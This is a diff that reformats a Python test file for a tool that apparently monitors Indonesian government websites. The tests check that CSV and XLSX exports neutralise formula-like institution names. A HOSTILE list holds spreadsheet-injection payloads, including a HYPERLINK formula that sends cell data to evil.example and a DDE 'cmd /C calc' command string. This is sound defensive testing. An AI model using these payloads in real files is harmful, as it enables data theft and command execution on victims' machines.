@@ -24,8 +24,17 @@ name = "Komdigi"
 email = "pantau@komdigi.go.id"
 regions = ["*"]
 """
-HOSTILE = ['\x01=HYPERLINK("http://evil.example/?d="&A2,"Lihat")', "\x07+cmd|' /C calc'!A0", "\x02@SUM(1+9)",
-           "\x1b-2+3", "=1+1", "'=1+1", "''quoted", "'Pemkab'", "@mention"]
+HOSTILE = [
+    '\x01=HYPERLINK("http://evil.example/?d="&A2,"Lihat")',
+    "\x07+cmd|' /C calc'!A0",
+    "\x02@SUM(1+9)",
+    "\x1b-2+3",
+    "=1+1",
+    "'=1+1",
+    "''quoted",
+    "'Pemkab'",
+    "@mention",
+]
 SPREADSHEET_FORMULA = ("=", "+", "-", "@")
 
 
@@ -56,8 +65,9 @@ def test_the_weekly_xlsx_keeps_an_institution_with_a_control_character_as_text(p
     project.config.write_text(project.config.read_text() + RECIPIENT)
     name = '\x01=HYPERLINK("http://evil.example/","Lihat")'
     buf = io.StringIO()
-    csv.writer(buf, lineterminator="\n").writerow([name, "16.06", "website", "", "https://mubakab.go.id", "", "",
-                                                   "", ""])
+    csv.writer(buf, lineterminator="\n").writerow(
+        [name, "16.06", "website", "", "https://mubakab.go.id", "", "", "", ""]
+    )
     project.write("registry.csv", HEADER + buf.getvalue())
     assert project.run("registry", "import", "registry.csv").returncode == 0
     now = "2024-11-22T03:00:00+00:00"
@@ -74,9 +84,16 @@ def test_the_weekly_xlsx_keeps_an_institution_with_a_control_character_as_text(p
 
 
 def test_status_csv_neutralises_formula_like_names_and_json_stays_exact(project):
-    project.write("registry.yaml", yaml.safe_dump([
-        {"institution": name, "platform": "website", "url": f"https://opd{i}.mubakab.go.id"}
-        for i, name in enumerate(HOSTILE)], allow_unicode=True))
+    project.write(
+        "registry.yaml",
+        yaml.safe_dump(
+            [
+                {"institution": name, "platform": "website", "url": f"https://opd{i}.mubakab.go.id"}
+                for i, name in enumerate(HOSTILE)
+            ],
+            allow_unicode=True,
+        ),
+    )
     assert project.run("registry", "import", "registry.yaml").returncode == 0
 
     as_csv = list(csv.DictReader(io.StringIO(project.run("status", "--format", "csv").stdout)))
@@ -90,9 +107,16 @@ def test_status_csv_neutralises_formula_like_names_and_json_stays_exact(project)
 
 
 def test_registry_export_is_formula_safe_and_comes_back_unchanged(project, tmp_path):
-    project.write("registry.yaml", yaml.safe_dump([
-        {"institution": name, "platform": "website", "url": f"https://opd{i}.mubakab.go.id", "note": name}
-        for i, name in enumerate(HOSTILE)], allow_unicode=True))
+    project.write(
+        "registry.yaml",
+        yaml.safe_dump(
+            [
+                {"institution": name, "platform": "website", "url": f"https://opd{i}.mubakab.go.id", "note": name}
+                for i, name in enumerate(HOSTILE)
+            ],
+            allow_unicode=True,
+        ),
+    )
     assert project.run("registry", "import", "registry.yaml").returncode == 0
     out = tmp_path / "export.csv"
 
